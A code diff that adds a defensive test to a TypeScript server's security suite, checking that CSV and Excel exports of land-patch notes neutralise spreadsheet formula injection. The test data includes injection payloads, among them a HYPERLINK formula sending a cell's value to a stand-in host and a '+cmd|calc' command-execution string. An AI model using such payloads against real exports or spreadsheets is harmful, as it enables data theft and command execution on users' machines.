@@ -1,5 +1,7 @@
 import { createHash } from 'node:crypto';
-import { existsSync, readFileSync } from 'node:fs';
+import { execFileSync } from 'node:child_process';
+import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { buildServer } from '../server/app.ts';
@@ -64,6 +66,41 @@ describe('security: exports, files and evidence', () => {
     expect(shp.rawPayload.subarray(0, 2).toString()).toBe('PK');
     // the folder goes when the response stream closes, which may be just after inject resolves
     await expect.poll(() => filesUnder(join(h.run.config.dataDir, 'tmp')), { timeout: 60_000 }).toEqual([]);
+  });
+
+  it('round three (Medium): a note that reads as a formula stays text in the CSV and the workbook', async () => {
+    const attack = '=HYPERLINK("http://x/?"&A3,"查看")';
+    // the export's 备注 is a patch's latest note: 0002's is the attack
+    for (const [code, text] of [
+      ['350206-202403-0002', '-2+3'],
+      ['350206-202403-0003', '+cmd|calc'],
+      ['350206-202403-0005', '@SUM(1)'],
+      ['350206-202403-0002', attack],
+    ])
+      expect((await call('dianqian', 'POST', `/api/patches/${code}/notes`, { text })).statusCode).toBe(201);
+    const csv = await call('dianqian', 'GET', '/api/export?month=2024-03&format=csv&town=350206001');
+    expect(csv.statusCode).toBe(200);
+    const text = csv.rawPayload.toString('utf8');
+    expect(text).toContain(`"'=HYPERLINK(""http://x/?""&A3,""查看"")"`);
+    expect(text).toContain(`'+cmd|calc`);
+    expect(text).toContain(`'@SUM(1)`);
+    expect(text).not.toMatch(/(^|,)[=+@]/m);
+    // the workbook: the same cells as text with the apostrophe, and not a single formula in the file
+    const xlsx = await call('dianqian', 'GET', '/api/export?month=2024-03&format=xlsx&town=350206001');
+    const dir = mkdtempSync(join(tmpdir(), 'tuban-formula-'));
+    writeFileSync(join(dir, 'p.xlsx'), xlsx.rawPayload);
+    const cells = execFileSync(
+      '/usr/bin/python3',
+      [
+        '-c',
+        'import openpyxl,sys,json; ws=openpyxl.load_workbook(sys.argv[1]).active; print(json.dumps([[c.value, c.data_type] for r in ws.iter_rows() for c in r if isinstance(c.value, str) and c.value[:2] in ("\'=", "\'+", "\'@", "\'-") or c.data_type == "f"], ensure_ascii=False))',
+        join(dir, 'p.xlsx'),
+      ],
+      { encoding: 'utf8' },
+    );
+    const found = JSON.parse(cells) as [string, string][];
+    expect(found.map(([, t]) => t)).not.toContain('f');
+    expect(found.map(([v]) => v)).toContain(`'${attack}`);
   });
 
   it('finding 1: names from the town layer are made safe before they name a zip folder or a file', () => {
